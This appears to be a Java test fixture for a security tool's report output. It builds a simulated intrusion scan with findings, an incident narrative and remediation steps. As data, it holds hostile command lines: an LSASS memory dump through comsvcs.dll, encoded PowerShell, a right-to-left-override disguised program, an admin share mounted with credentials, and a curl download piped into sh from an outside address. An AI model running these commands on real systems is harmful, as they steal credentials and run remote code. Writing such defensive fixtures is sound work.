package dev.vedette.cli.report;

import static dev.vedette.cli.report.ScanBuilder.TENANT;
import static dev.vedette.cli.report.ScanBuilder.attack;

import dev.vedette.cli.report.ScanBuilder.Where;
import dev.vedette.model.Entity;
import dev.vedette.model.Incident;
import dev.vedette.model.Incident.Reason;
import dev.vedette.model.Incident.Relation;
import dev.vedette.model.Incident.Sentence;
import dev.vedette.model.Problem;
import dev.vedette.model.RemediationStep;
import dev.vedette.model.RemediationStep.Phase;
import dev.vedette.model.Severity;
import dev.vedette.model.Tactic;
import dev.vedette.pipeline.IncidentCase;
import java.time.Instant;
import java.util.List;
import java.util.stream.IntStream;

/** A scan like those of real recordings: an intrusion on two hosts, a lesser case, and noise. */
final class SampleScan {
  private static final long START = Instant.parse("2020-05-02T02:55:56Z").toEpochMilli();
  private static final String PROGRAM = "\"C:\\ProgramData\\victim\\\u202ecod.3aka3.scr\" /S";
  private static final String ENCODED =
      "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8=";
  private static final String DUMP =
      "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652";
  private static final String COPY = "net use \\\\NASHUA\\C$ /user:dmevals\\mscott 木更津市";

  private static final Entity PAM = new Entity(Entity.Type.USER, "dmevals\\pbeesly");
  private static final Entity MICHAEL = new Entity(Entity.Type.USER, "dmevals\\mscott");
  private static final Entity SCRANTON = new Entity(Entity.Type.HOST, "scranton.dmevals.local");
  private static final Entity NASHUA = new Entity(Entity.Type.HOST, "nashua.dmevals.local");
  private static final Entity LURE = new Entity(Entity.Type.PROCESS, "\u202ecod.3aka3.scr");
  private static final Entity SHELL = new Entity(Entity.Type.PROCESS, "powershell.exe");
  private static final Entity DUMPER = new Entity(Entity.Type.PROCESS, "rundll32.exe");
  private static final Entity SERVER = new Entity(Entity.Type.ADDRESS, "192.168.0.5");

  private final ScanBuilder scan = new ScanBuilder();

  private SampleScan() {}

  static ScanResult result() {
    return new SampleScan().build();
  }

  private ScanResult build() {
    scan.incident(lesser());
    scan.incident(intrusion());
    noise();
    scan.problem(
        Problem.error(
            "rules/cred-dump.yml", 14, 9, "unknown modifier 'endwith', did you mean 'endswith'?"));
    scan.problem(
        Problem.warning(
            "evidence.zip!b/\u001b[31msecurity.evtx",
            0,
            0,
            "chunk 7 at offset 462848 has a wrong checksum: its records were skipped, the rest read;"
                + " export the log again if they matter"));
    return scan.build();
  }

  private IncidentCase intrusion() {
    var pam = new Where("SCRANTON.dmevals.local", "DMEVALS\\pbeesly", PROGRAM);
    var lure =
        find(
            0,
            Severity.HIGH,
            "Right-to-Left Override in Program Name",
            Tactic.EXECUTION,
            "T1204.002",
            pam);
    var shells = IntStream.range(0, 12).mapToObj(this::shell).flatMap(List::stream).toList();
    var dump =
        find(
            190,
            Severity.CRITICAL,
            "LSASS Memory Dumped Through comsvcs.dll",
            Tactic.CREDENTIAL_ACCESS,
            "T1003.001",
            new Where("SCRANTON.dmevals.local", "DMEVALS\\pbeesly", DUMP));
    var service =
        find(
            95,
            Severity.MEDIUM,
            "Service Installed From a Folder Where Users May Write",
            Tactic.PERSISTENCE,
            "T1543.003",
            new Where(
                "SCRANTON.dmevals.local",
                "SYSTEM",
                "sc.exe create javamtsup binPath= C:\\Windows\\System32\\javamtsup.exe"));
    var share =
        find(
            1755,
            Severity.HIGH,
            "Admin Share Mounted With Another Account",
            Tactic.LATERAL_MOVEMENT,
            "T1021.002",
            new Where("NASHUA.dmevals.local", "DMEVALS\\mscott", COPY));
    return new IncidentCase(
        new Incident(
            "9c1f2ab37e5d4410",
            TENANT,
            "DMEVALS\\pbeesly opened a disguised program on SCRANTON; credentials were stolen from LSASS and used to enter NASHUA",
            List.of(
                sentence(
                    0,
                    "DMEVALS\\pbeesly started "
                        + PROGRAM
                        + ", a program whose name is turned around to look like a document",
                    lure),
                sentence(
                    41, "PowerShell ran with an encoded command, 12 times until 02:57:31", shells),
                sentence(
                    95,
                    "A service javamtsup was installed; it starts C:\\Windows\\System32\\javamtsup.exe with the system",
                    service),
                sentence(
                    190,
                    "The memory of LSASS was written to a file: " + DUMP,
                    join(List.of(dump, List.of(shells.getLast())))),
                sentence(
                    1755,
                    "From SCRANTON, the share C$ of NASHUA was mounted as dmevals\\mscott: " + COPY,
                    share)),
            Severity.CRITICAL,
            93,
            92,
            List.of(
                new Reason(38, "credentials read from the memory of LSASS on SCRANTON"),
                new Reason(24, "the same account reached a second host, NASHUA, within 30 minutes"),
                new Reason(18, "five tactics in the order of an attack"),
                new Reason(12, "a service that survives a restart")),
            START,
            START + 1_755_000,
            List.of(SCRANTON, PAM, NASHUA, MICHAEL, LURE, SHELL, DUMPER, SERVER),
            List.of(
                attack(Tactic.EXECUTION, "T1204.002"),
                attack(Tactic.EXECUTION, "T1059.001"),
                attack(Tactic.PERSISTENCE, "T1543.003"),
                attack(Tactic.CREDENTIAL_ACCESS, "T1003.001"),
                attack(Tactic.LATERAL_MOVEMENT, "T1021.002")),
            List.of(
                new Relation(PAM, "ran", LURE, lure),
                new Relation(LURE, "runs on", SCRANTON, lure),
                new Relation(LURE, "started", SHELL, shells),
                new Relation(SHELL, "connected to", SERVER, shells),
                new Relation(SHELL, "started", DUMPER, dump),
                new Relation(SCRANTON, "logged on to", NASHUA, share),
                new Relation(MICHAEL, "used on", NASHUA, share)),
            join(List.of(lure, shells, service, dump, share))),
        List.of(
            new RemediationStep(
                Phase.CONTAIN,
                "Isolate SCRANTON and NASHUA from the network",
                "Set-NetFirewallProfile -All -Enabled True -DefaultInboundAction Block -DefaultOutboundAction Block",
                "Both ran the attacker's commands."),
            new RemediationStep(
                Phase.CONTAIN,
                "Disable dmevals\\mscott and end its sessions",
                "Disable-ADAccount -Identity 'mscott'\nGet-SmbSession | Where-Object ClientUserName -like '*mscott' | Close-SmbSession -Force",
                "T1021.002"),
            new RemediationStep(
                Phase.COLLECT,
                "Save the memory of SCRANTON before it restarts",
                "",
                "Injected code, keys and connections exist only there."),
            new RemediationStep(
                Phase.ERADICATE,
                "Remove the service javamtsup",
                "sc.exe delete javamtsup",
                "T1543.003"),
            new RemediationStep(
                Phase.RECOVER,
                "Reset the passwords of everybody who was signed in on SCRANTON",
                "",
                "T1003.001")));
  }

  private List<String> shell(int index) {
    return find(
        41 + index * 5L,
        Severity.HIGH,
        "Encoded PowerShell Command",
        Tactic.EXECUTION,
        "T1059.001",
        new Where("SCRANTON.dmevals.local", "DMEVALS\\pbeesly", ENCODED + index));
  }

  private IncidentCase lesser() {
    var where = new Where("utica", "root", "curl -s http://198.51.100.7/x.sh | sh");
    var piped =
        find(
            86_400,
            Severity.MEDIUM,
            "Download Piped Into a Shell",
            Tactic.EXECUTION,
            "T1059.004",
            where);
    var cron =
        find(
            90_061,
            Severity.MEDIUM,
            "Cron Job Added by a Script",
            Tactic.PERSISTENCE,
            "T1053.003",
            where);
    return new IncidentCase(
        new Incident(
            "1be07c3d22aa9016",
            TENANT,
            "root on utica ran a script from 198.51.100.7 that installed a cron job",
            List.of(
                sentence(
                    86_400,
                    "A script was downloaded and run at once: " + where.commandLine(),
                    piped),
                sentence(90_061, "A cron job was added", cron)),
            Severity.MEDIUM,
            64,
            41,
            List.of(new Reason(41, "two tactics on one host within two hours")),
            START + 86_400_000,
            START + 90_061_000,
            List.of(new Entity(Entity.Type.HOST, "utica"), new Entity(Entity.Type.USER, "root")),
            List.of(attack(Tactic.EXECUTION, "T1059.004"), attack(Tactic.PERSISTENCE, "T1053.003")),
            List.of(),
            join(List.of(piped, cron))),
        List.of());
  }

  private void noise() {
    for (int index = 0; index < 1_204; index++) {
      find(
          3_600 + index,
          Severity.LOW,
          "Network Connection From PowerShell",
          Tactic.COMMAND_AND_CONTROL,
          "T1071.001",
          new Where("newyork", "SYSTEM", "powershell.exe -File inventory.ps1"));
    }
    find(
        7_000,
        Severity.MEDIUM,
        "Scheduled Task Created With a Very Long Title That Has to Be Wrapped Because It Says Everything There Is to Say",
        Tactic.PERSISTENCE,
        "T1053.005",
        new Where("newyork", "SYSTEM", "schtasks /create /tn backup"));
    find(
        7_001,
        Severity.INFORMATIONAL,
        "New Process From a Network Share",
        Tactic.EXECUTION,
        "T1204",
        new Where("newyork", "SYSTEM", "\\\\files\\tools\\putty.exe"));
  }

  private List<String> find(
      long second, Severity severity, String title, Tactic tactic, String technique, Where where) {
    return List.of(
        scan.finding(START + second * 1000, severity, title, attack(tactic, technique), where));
  }

  private static Sentence sentence(long second, String text, List<String> findings) {
    return new Sentence(START + second * 1000, text, findings);
  }

  private static List<String> join(List<List<String>> lists) {
    return lists.stream().flatMap(List::stream).toList();
  }
}
